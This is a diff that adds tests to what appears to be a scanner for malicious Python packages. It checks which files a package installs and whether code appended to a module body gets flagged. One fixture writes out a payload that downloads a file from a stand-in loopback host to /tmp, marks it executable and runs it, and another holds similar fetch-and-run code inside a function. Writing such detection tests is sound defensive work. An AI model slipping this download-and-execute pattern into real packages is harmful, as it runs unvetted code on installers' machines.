@@ -196,3 +196,66 @@ def test_a_large_library_compressed_at_an_ordinary_ratio_is_not_a_bomb() -> None
     assert "archive-bomb" not in severities(r)
     assert severities(r)["archive-too-large"] == "low"
     assert not r.complete  # what was not read keeps it from being published unexamined
+
+
+PYPROJECT = """
+[project]
+name = "demo"
+version = "1.0"
+[project.scripts]
+demo = "demo.cli:main"
+[tool.pdm.build]
+source-includes = ["scripts/", "tests/"]
+[tool.ruff]
+exclude = ["scripts/generated"]
+"""
+
+
+def test_folders_named_only_by_tooling_or_sdist_includes_are_not_installed() -> None:
+    r = scan(
+        {
+            "pyproject.toml": PYPROJECT,
+            "demo/__init__.py": "",
+            "scripts/fetch_zones.py": SCRIPT,
+        }
+    )
+    assert r.verdict != "malicious", [(f.rule, f.file) for f in r.findings]
+
+
+def test_a_module_pyproject_installs_counts() -> None:
+    pyproject = PYPROJECT + '[tool.setuptools]\npy-modules = ["update_zones"]\n'
+    r = scan({"pyproject.toml": pyproject, "update_zones.py": SCRIPT})
+    assert r.verdict == "malicious"
+
+
+LIBRARY = {f"demo/m{i}.py": "def f():\n    return 1\n" for i in range(7)}
+
+
+def test_a_download_appended_to_a_library_modules_body_is_held() -> None:
+    payload = (
+        "import os, urllib.request\n"
+        "urllib.request.urlretrieve('http://127.0.0.1:9/tool', '/tmp/tool')\n"
+        "os.chmod('/tmp/tool', 0o755)\nos.system('/tmp/tool')\n"
+    )
+    files = {"setup.py": PLAIN_SETUP, "demo/__init__.py": "", **LIBRARY, "demo/util.py": payload}
+    r = scan(files)
+    assert r.verdict == "malicious"
+    finding = next(f for f in r.findings if f.severity == "high")
+    assert (
+        finding.file.endswith("demo/util.py")
+        and finding.context
+        and "module body" in finding.context
+    )
+
+
+def test_a_library_modules_functions_and_comments_are_not_its_body() -> None:
+    lib = (
+        "import os, subprocess, urllib.request\n"
+        "# to detach: f = open(os.devnull); os.dup2(f.fileno(), 0)\n"
+        "def fetch(url, target):\n"
+        "    urllib.request.urlretrieve(url, target)\n"
+        "    subprocess.run([target])\n"
+    )
+    files = {"setup.py": PLAIN_SETUP, "demo/__init__.py": "", **LIBRARY, "demo/util.py": lib}
+    r = scan(files)
+    assert r.verdict != "malicious", [(f.rule, f.file, f.severity) for f in r.findings]
